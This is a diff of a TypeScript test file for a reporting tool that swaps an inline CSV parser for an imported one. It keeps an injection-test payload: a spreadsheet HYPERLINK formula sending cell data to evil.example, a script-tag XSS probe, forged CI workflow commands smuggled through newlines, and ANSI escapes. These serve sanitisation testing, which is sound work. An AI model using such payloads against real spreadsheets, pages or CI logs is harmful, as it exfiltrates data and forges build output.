@@ -12,6 +12,7 @@ import { DEFAULT_FORMAT_OPTIONS } from '../../src/report/types.js';
 import { runInProcess } from '../cli/run.js';
 import { parseAnnotation } from '../report/ci-parse.js';
 import { conflictReport } from '../report/conflict-report.js';
+import { parseCsv } from '../report/csv-parse.js';
 
 const PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script> ::error::pwned %0A::warning::injected\r\n::error file=x::real newline | *md* `code` \u001b[31mred\u001b[0m,comma:colon';
 
@@ -23,27 +24,6 @@ function taint(value: unknown, key = ''): unknown {
   if (Array.isArray(value)) return value.map((v) => taint(v, key));
   if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, taint(v, k)]));
   return value;
-}
-
-/** RFC 4180 rows → cells. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i];
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
-      else if (ch === '"') quoted = false;
-      else cell += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === ',') row.push(cell), (cell = '');
-    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
-    else cell += ch;
-  }
-  if (cell !== '' || row.length > 0) row.push(cell), rows.push(row);
-  return rows;
 }
 
 const RAW_CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/;
